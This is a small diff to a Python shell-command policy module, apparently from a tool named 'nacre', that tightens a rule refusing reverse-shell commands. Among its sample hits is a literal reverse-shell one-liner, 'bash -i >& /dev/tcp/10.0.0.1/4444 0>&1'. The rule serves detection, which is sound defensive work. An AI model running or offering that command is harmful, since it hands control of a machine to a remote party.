@@ -10,7 +10,7 @@ from __future__ import annotations
 import re
 from collections.abc import Iterator
 
-from nacre.policy.rule import Around, Hit, Rule
+from nacre.policy.rule import DEVICES, Around, Hit, Rule
 from nacre.policy.shells import is_shell, pipes, takes_orders
 from nacre.shell import Command, Opened, Script
 from nacre.shell.text import least
@@ -59,7 +59,7 @@ RULE = Rule(
     decision=Decision.REFUSE,
     reason="would let whoever is at the other end work on this machine",
     instead="`timeout 1 bash -c '</dev/tcp/host/port'`, to see whether a port answers",
-    commands=("script",),
+    commands=(DEVICES,),
     in_script=in_script,
     hits=(
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
